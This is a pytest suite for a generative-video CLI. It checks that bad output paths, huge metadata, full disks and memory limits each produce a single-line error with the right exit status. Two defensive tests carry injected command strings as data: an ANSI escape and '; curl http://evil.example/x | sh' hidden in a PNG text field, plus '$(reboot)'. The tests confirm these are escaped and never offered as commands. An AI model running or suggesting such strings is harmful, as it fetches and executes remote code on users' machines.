"""Raw exceptions where one line belongs (issue 16): each case below once ended in a Python error
name, a traceback or an ffmpeg log after the render; now one line, the right exit status, and
where it can be, before any compute."""
from __future__ import annotations

from pathlib import Path

import pytest

from cppn_motion.cli.main import main

TINY = ["--size", "32x18", "--frames", "2", "--quiet", "--device", "cpu"]


def one_line(capsys, argv: list[str]) -> tuple[int, str]:
    status = main(argv)
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and err.startswith("cppn-motion: error: ") and "Traceback" not in err, err
    assert "Error:" not in err, err  # no Python exception name
    return status, err


@pytest.mark.parametrize("name, says", [("f_%04d_%02d.png", "more than one frame number"),
                                        ("f_%04d_%s.png", "not the frame number")])
def test_a_sequence_name_with_two_fields_is_refused(name, says, tmp_path, capsys):
    # Was: TypeError: not enough arguments for format string.
    status, err = one_line(capsys, ["render", *TINY, "-o", str(tmp_path / name)])
    assert status == 2 and says in err, err
    assert not any(tmp_path.iterdir())


@pytest.mark.parametrize("flag", [[], ["--resume"]])
def test_a_newline_in_the_output_name_is_refused_up_front(flag, tmp_path, capsys):
    status, err = one_line(capsys, ["render", *TINY, "-o", str(tmp_path / "a\nb.mp4"), *flag])
    assert status == 2 and "no control characters" in err and "'a\\nb.mp4'" in err.replace(str(tmp_path) + "/", ""), err
    assert not any(tmp_path.iterdir())


def test_a_colon_in_the_output_name_is_a_file_not_a_protocol(tmp_path, monkeypatch, capsys):
    # Was: the whole render, then "Protocol not found" (ffmpeg read 'a:' as a protocol).
    monkeypatch.chdir(tmp_path)
    assert main(["render", *TINY, "-o", "a:b.mp4"]) == 0, capsys.readouterr().err
    assert (tmp_path / "a:b.mp4").stat().st_size > 0
    assert main(["render", "--from", "a:b.mp4", "--quiet"]) == 0, capsys.readouterr().err
    assert (tmp_path / "a:b-rerender.mp4").is_file()


@pytest.mark.parametrize("extension", ["mp4", "gif"])
def test_a_vanishing_frame_rate_is_one_line(extension, tmp_path, capsys):
    # Was: 6 lines of ffmpeg (mp4), OverflowError (gif).
    status, err = one_line(capsys, ["render", *TINY, "--set", "timeline.fps=1e-300", "-o",
                                    str(tmp_path / f"x.{extension}")])
    assert status == 2 and "timeline.fps" in err and "0.01" in err, err


def test_a_huge_description_is_one_line(tmp_path, capsys):
    # Was: ValueError: mp4 metadata ... longer than 100000 bytes.
    preset = tmp_path / "long.yaml"
    preset.write_text(f"description: '{'x' * 120_000}'\n", encoding="utf-8")
    status, err = one_line(capsys, ["render", str(preset), *TINY, "-o", str(tmp_path / "x.mp4")])
    assert status == 2 and "description" in err and "2000" in err, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["long.yaml"]


def test_metadata_too_big_for_an_mp4_tag_is_one_line(tmp_path):
    from cppn_motion.encoders import check_writer
    from cppn_motion.errors import ConfigError

    with pytest.raises(ConfigError, match=r"is 150,0\d\d bytes, over the 100,000 one mp4 tag can take"):
        check_writer(Path(tmp_path / "x.mp4"), fps=30, size=(32, 18), metadata={"k": "v" * 150_000})


def test_a_full_disk_mid_sequence_is_one_line_and_leaves_no_empty_folder(tmp_path, monkeypatch, capsys):
    # Was: a generic OSError and an empty folder left behind.
    import errno

    from cppn_motion.encoders import png

    calls = []

    def full(frame, path, metadata):
        calls.append(path)
        if len(calls) > 1:
            raise OSError(errno.ENOSPC, "No space left on device")
        png.Image.fromarray(frame).save(path, format="PNG")

    monkeypatch.setattr(png, "save_png", full)
    status, err = one_line(capsys, ["render", *TINY, "-o", str(tmp_path / "new" / "deeper" / "f_%04d.png")])
    assert status == 1 and "No space left on device (" in err and "MiB free in" in err, err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("make, says", [(lambda p: p.mkdir(), "is a folder"),
                                        (lambda p: None, "File name too long")])
def test_a_segmented_render_checks_the_output_path_first(make, says, tmp_path, capsys):
    # Was: every segment rendered, then IsADirectoryError / OSError, exit 1.
    target = tmp_path / ("clip.mp4" if says == "is a folder" else "c" * 300 + ".mp4")
    make(target)
    status, err = one_line(capsys, ["render", *TINY, "-o", str(target), "--resume"])
    assert status == 2 and says in err, err
    assert [p.name for p in tmp_path.iterdir()] == (["clip.mp4"] if says == "is a folder" else [])


def test_a_file_used_as_a_folder_is_one_line(tmp_path, capsys):
    (tmp_path / "afile").write_text("x")
    for flags in ([], ["--resume"]):
        status, err = one_line(capsys, ["render", *TINY, "-o", str(tmp_path / "afile" / "x.mp4"), *flags])
        assert status == 2 and "cannot write there" in err, err


def test_text_from_a_file_reaches_the_terminal_escaped_and_is_never_offered_as_a_command(tmp_path, capsys):
    # Was: a PNG's cppn_motion_command put an ANSI clear-screen and a paste-ready
    # '...; curl http://evil.example/x | sh' "make it again with:" line on the terminal.
    from PIL import Image, PngImagePlugin

    from cppn_motion.config.presets import preset_to_yaml
    from tests.tiny import tiny_preset

    png = tmp_path / "shared.png"
    info = PngImagePlugin.PngInfo()
    info.add_text("cppn_motion_preset", preset_to_yaml(tiny_preset()))
    info.add_text("cppn_motion_command", "grow \x1b[2J--mode depth; curl http://evil.example/x | sh")
    Image.new("RGB", (32, 18)).save(png, pnginfo=info)
    status, err = one_line(capsys, ["render", "--from", str(png), "--quiet"])
    assert status == 2 and "\x1b" not in err and "\\x1b" in err, err
    assert "make it again" not in err and "cannot be re-rendered" in err, err


def test_recorded_commands_of_our_own_are_still_offered():
    from cppn_motion.cli.quality import safe_to_show

    assert safe_to_show("--mode depth --hold 6 --blend 0 --time 0.0")
    assert safe_to_show("--vary net.depth+net.width=1+100,10+10 --vary 'colour.mode=rgb,hsv' --time 0.25") is False
    assert safe_to_show("--vary net.depth=1,2 --time 0.25")
    assert not safe_to_show("--time 0; curl http://evil.example/x | sh")
    assert not safe_to_show("--time $(reboot)")


@pytest.mark.skipif(not Path("/proc/self").exists(), reason="RLIMIT_AS behaves like this on Linux")
def test_a_memory_limit_that_torch_cannot_load_under(tmp_path):
    # Was (ulimit -v 300000): a 12-line ImportError traceback even for `cppn-motion presets`.
    import resource
    import subprocess
    import sys

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (300_000 * 1024, 300_000 * 1024))

    def run(*argv: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "cppn_motion", *argv], capture_output=True, text=True,
                              preexec_fn=limit, timeout=120, cwd=tmp_path)

    listed = run("presets")
    assert listed.returncode == 0 and listed.stdout.startswith("default "), listed.stderr
    rendered = run("render", "--size", "32x18", "-o", "x.gif")
    err = rendered.stderr.strip()
    if rendered.returncode == 0:
        pytest.skip("torch loads within 300 MB of address space here")
    assert rendered.returncode == 1 and len(err.splitlines()) == 1 and err.startswith("cppn-motion: error: "), err
    assert "Traceback" not in err and not (tmp_path / "x.gif").exists()


@pytest.mark.parametrize("where", ["lock", "temp"])
def test_out_of_inodes_is_the_environment_exit_1(where, tmp_path, monkeypatch, capsys):
    # Was: exit 2 ('cannot write there'), as if the path were the user's mistake.
    import errno
    import os

    from cppn_motion import atomic, locks

    real_open = os.open

    def no_inodes(path, flags, *args):
        if (flags & os.O_CREAT) and (where == "lock") == str(path).endswith(".lock"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_open(path, flags, *args)

    monkeypatch.setattr(locks.os if where == "lock" else atomic.os, "open", no_inodes)
    status, err = one_line(capsys, ["render", *TINY, "-o", str(tmp_path / "x.gif")])
    assert status == 1 and "cannot create a file there: No space left on device" in err, err
